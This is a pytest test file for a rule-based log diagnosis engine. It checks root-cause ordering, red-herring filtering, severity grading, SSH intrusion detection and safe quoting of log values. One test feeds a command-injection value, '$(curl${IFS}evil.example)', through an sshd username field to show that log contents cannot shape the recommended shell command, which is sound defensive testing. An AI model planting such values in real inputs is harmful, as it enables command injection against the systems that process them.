"""What the rules say about whole logs: the cause before the loudest symptom, and no alarm without a reason."""

import json

import pytest

from app.domain.diagnoses import Severity
from app.domain.errors import CancelRequested
from app.pipeline.interpretation import ANSWER_SCHEMA
from app.providers.rules import Rules

AT = "2025-03-18 10:00:{:02d}"


def log_of(*lines):
    return "\n".join(f"{AT.format(second % 60)} {line}" for second, line in enumerate(lines)) + "\n"


def test_an_answer_has_exactly_the_fields_of_the_schema(make_prompt, watching):
    watch = watching()
    completion = Rules().complete(make_prompt("2025-03-18 10:00:00 ERROR No space left on device\n"), watch)
    assert set(json.loads(completion.text)) == set(ANSWER_SCHEMA["required"])
    assert completion.model == "bifrost-rules"
    assert watch.tokens == [completion.text]
    assert completion.usage.prompt_tokens == completion.usage.cost_micro_usd == 0


def test_a_watch_can_interrupt(make_prompt, watching):
    with pytest.raises(CancelRequested):
        Rules().complete(make_prompt("ERROR x\n"), watching(CancelRequested()))


def test_the_rules_are_always_healthy():
    health = Rules().health()
    assert health.ok
    assert health.name == "rules"


def test_the_pool_is_the_cause_and_the_5xx_its_consequence(diagnose):
    lines = [f'INFO "GET /api/{n} HTTP/1.1" 500 12' for n in range(40)]
    lines[1:1] = [
        "ERROR [pool] sqlalchemy.exc.TimeoutError: QueuePool limit of size 5 overflow 10 reached, connection timed out"
    ] * 4
    found = diagnose(log_of(*lines))
    assert "connection pool is exhausted" in found.summary
    assert "40 × 500" in found.summary
    assert found.severity.rank >= Severity.HIGH.rank
    assert found.evidence[0].text.endswith("connection timed out")
    assert "pg_stat_activity" in found.recommendation


def test_dns_explains_timeouts_that_follow(diagnose):
    found = diagnose(
        log_of(
            *["ERROR lookup db.example.internal on 192.0.2.53:53: no such host"] * 6,
            *["ERROR request to billing: context deadline exceeded"] * 30,
        )
    )
    assert found.summary.startswith("The name db.example.internal cannot be resolved")
    assert "getent hosts db.example.internal" in found.recommendation
    assert "Consequences: Requests to another service time out" in found.summary


def test_a_cause_that_comes_after_the_trouble_is_not_its_cause(diagnose):
    found = diagnose(
        log_of(
            *["ERROR context deadline exceeded calling stock"] * 60,
            "INFO restarted",
            "ERROR lookup mail.example.com: no such host",
        )
    )
    assert found.summary.startswith("Requests to another service time out")


def test_a_healthy_log_has_no_issue(diagnose):
    found = diagnose(log_of(*[f"INFO handled request {n} in {n} ms" for n in range(50)]))
    assert not found.issues_found
    assert found.severity is Severity.LOW
    assert found.summary.startswith("No issue found in 50 records")
    assert found.evidence == ()


@pytest.mark.parametrize(
    "line",
    [
        "INFO retry policy: on timeout, 3 attempts",
        "INFO finished: 0 errors, 0 failures",
        "INFO error handler registered",
        "tests/test_net.py::test_connection_refused_is_reported PASSED [ 10%]",
        "ok   example.org/net/timeout 0.4s",
        'INFO "GET /missing HTTP/1.1" 404 12',
        "INFO slow query log enabled",
        "INFO deadlock detection enabled",
        "INFO circuit breaker payments is closed",
        "INFO Tests run: 12, Failures: 0, Errors: 0, Skipped: 1",
        "INFO certificate renewed, valid until 2026-01-01",
        "DEBUG socket timeout = 30000 ms, connection timeout = 1000 ms",
        "INFO OutOfMemory handler installed",
    ],
)
def test_a_red_herring_is_no_issue(diagnose, line):
    found = diagnose(log_of("INFO start", line, "INFO go on", "INFO stop"))
    assert not found.issues_found, found.summary


@pytest.mark.parametrize(
    "line",
    [
        "ERROR write failed: No space left on device",
        "ERROR tests: 3 failed, 0 errors",
        "ERROR error: no route to host",
        "FATAL exception: None of the brokers is reachable: Connection refused",
    ],
)
def test_a_real_failure_is_not_taken_for_a_red_herring(diagnose, line):
    assert diagnose(log_of("INFO start", line, "INFO stop")).issues_found


def test_a_trouble_that_passed_is_low_and_says_where_it_ended(diagnose):
    found = diagnose(
        log_of(
            "INFO start",
            "WARN connect to 192.0.2.4:5432 failed: Connection refused, retrying",
            "INFO reconnected to 192.0.2.4:5432",
            *["INFO work"] * 10,
        )
    )
    assert found.severity is Severity.LOW
    assert "works again from line 3" in found.summary


def test_a_trouble_that_did_not_pass_is_not_low(diagnose):
    found = diagnose(log_of("INFO start", *["ERROR connect to 192.0.2.4:5432 failed: Connection refused"] * 25))
    assert found.severity is Severity.HIGH


def test_one_5xx_among_many_requests_is_low(diagnose):
    lines = [f'INFO "GET /a/{n} HTTP/1.1" {500 if n == 70 else 200} 12' for n in range(400)]
    found = diagnose(log_of(*lines))
    assert found.severity is Severity.LOW
    assert "1 × 500" in found.summary


def test_a_burst_of_5xx_counts_them_and_their_share(diagnose):
    lines = [f'INFO "GET /cart HTTP/1.1" {502 if n % 4 == 0 else 200} 12' for n in range(400)]
    found = diagnose(log_of(*lines))
    assert found.severity is Severity.HIGH
    assert "100 × 502 (25% of 400 requests), mostly /cart" in found.summary


def test_a_login_of_the_attackers_own_address_is_an_intrusion(diagnose):
    tries = [f"bastion sshd[{n}]: Failed password for root from 203.0.113.7 port {n} ssh2" for n in range(100, 160)]
    alone = diagnose(log_of(*tries))
    broken = diagnose(log_of(*tries, "bastion sshd[7]: Accepted password for root from 203.0.113.7 port 1 ssh2"))
    other = diagnose(log_of(*tries, "bastion sshd[7]: Accepted password for app from 192.0.2.9 port 1 ssh2"))
    assert alone.severity is Severity.MEDIUM
    assert "60 times" in alone.summary
    assert broken.severity is Severity.CRITICAL
    assert "Accepted password for root" in broken.evidence[0].text
    assert other.severity is Severity.HIGH


def test_an_unknown_error_is_quoted_with_low_confidence(diagnose):
    found = diagnose(log_of("INFO boot", "INFO loading table", *["ERROR flux capacitor misaligned"] * 5, "INFO bye"))
    assert "flux capacitor misaligned" in found.summary
    assert found.confidence <= 0.4
    assert found.severity is Severity.MEDIUM
    assert "loading table" in found.root_cause
    assert found.evidence[0].line == 3


def test_an_unknown_fatal_error_is_high(diagnose):
    assert diagnose(log_of("INFO boot", "FATAL warp core ejected")).severity is Severity.HIGH


def test_a_small_finding_does_not_hide_lasting_unknown_errors(diagnose):
    found = diagnose(log_of("WARN Connection refused by stock", *["ERROR flux capacitor misaligned"] * 9))
    assert "flux capacitor" in found.summary
    assert "refused" in found.summary


def test_many_warnings_alone_are_a_small_issue(diagnose):
    found = diagnose(log_of(*["WARN the moon is in the wrong house"] * 60, *["INFO ok"] * 20))
    assert found.issues_found
    assert found.severity is Severity.LOW


def test_korean_is_answered_in_korean(diagnose):
    found = diagnose(log_of("ERROR write failed: No space left on device"), "ko")
    assert found.summary.startswith("디스크가 가득 찼습니다")
    assert "df -h" in found.recommendation
    assert "여유 공간이 없어" in found.root_cause


def test_a_long_line_is_quoted_around_what_matters(diagnose):
    found = diagnose(log_of("ERROR " + "x" * 500 + " java.lang.OutOfMemoryError: Java heap space " + "y" * 300))
    assert "OutOfMemoryError" in found.evidence[0].text


def test_a_value_of_the_log_cannot_write_a_shell_command(diagnose):
    tries = [f"bastion sshd[{n}]: Failed password for root from 203.0.113.7 port {n} ssh2" for n in range(100, 160)]
    evil = "bastion sshd[7]: Accepted password for $(curl${IFS}evil.example) from 203.0.113.7 port 1 ssh2"
    found = diagnose(log_of(*tries, evil))
    assert "usermod -L <user>" in found.recommendation


def test_braces_and_percent_signs_of_the_log_do_no_harm(diagnose):
    found = diagnose(log_of(*["ERROR {count} {0} %s {line} `boom`"] * 3))
    assert "{count} {0} %s {line}" in found.summary
    found = diagnose(log_of("ERROR FileNotFoundError: [Errno 2] No such file or directory: '/srv/{x}/{first}.toml'"))
    assert "/srv/{x}/{first}.toml" in found.summary


def test_one_of_a_kind_is_told_in_the_singular(diagnose):
    assert diagnose("all is well\n").summary.startswith("No issue found in 1 record (1 distinct message, 1 line): ")
    assert "1 warning looks harmless: “WARN slow”." in diagnose("WARN slow\n").summary
    two = diagnose("ERROR the quux is gone\nERROR another thing went astray\n").summary
    assert "One more kind of error, at line 2: “" in two


def test_a_value_that_ends_with_a_full_stop_ends_its_sentence_once(diagnose):
    found = diagnose("##[error]Process completed with exit code 1.\n")
    text = f"{found.summary} {found.root_cause} {found.recommendation}"
    assert "exit code 1" in text
    assert ".." not in text
    assert "1. (" not in text


QUIET = [f"2024-05-01 12:00:{second:02} INFO request {second} served in 3 ms" for second in range(60)]


def test_what_everybody_has_every_day_is_told_but_no_problem(diagnose):
    scan = '203.0.113.9 - - [01/May/2024:12:00:09 +0000] "GET /wp-login.php HTTP/1.1" 404 153'
    found = diagnose("\n".join([*QUIET, scan, scan.replace(":09", ":11"), *QUIET]))
    assert not found.issues_found
    assert "scans the site" in found.summary


def test_a_failed_build_is_at_most_medium(diagnose):
    found = diagnose("java.lang.OutOfMemoryError: Java heap space\nBUILD FAILED\nERROR: Job failed: exit code 1\n")
    assert found.severity is Severity.MEDIUM


def test_errors_that_take_over_a_quiet_log_are_high(diagnose):
    failing = [f"2024-05-01 12:01:{second:02} ERROR could not store order {second}" for second in range(20)]
    assert diagnose("\n".join([*QUIET, *failing])).severity is Severity.HIGH
    assert diagnose("\n".join([*QUIET * 3, *failing[:5], *QUIET * 3])).severity is Severity.MEDIUM


def test_a_change_shortly_before_the_first_error_is_told(diagnose):
    change = "2024-05-01 12:00:59 INFO deployed shop 4.2.0"
    refused = ["2024-05-01 12:01:00 ERROR dial tcp 192.0.2.4:5432: connect: connection refused"] * 5
    found = diagnose("\n".join([*QUIET, change, *refused]))
    assert "something was changed, see line 61" in found.root_cause
    assert 61 in [evidence.line for evidence in found.evidence]
    assert "something was changed" not in diagnose("\n".join([change, *QUIET, *refused])).root_cause


def test_one_line_that_only_speaks_of_failure_is_told_as_a_remark(diagnose):
    found = diagnose("\n".join(["HEAD is now at 8f1c2d3 Fix crash of the cart", *("step done" for _ in range(30))]))
    assert not found.issues_found
    assert "Fix crash of the cart" in found.summary
    assert diagnose("\n".join([*("step done" for _ in range(30)), "the import crashed"])).issues_found
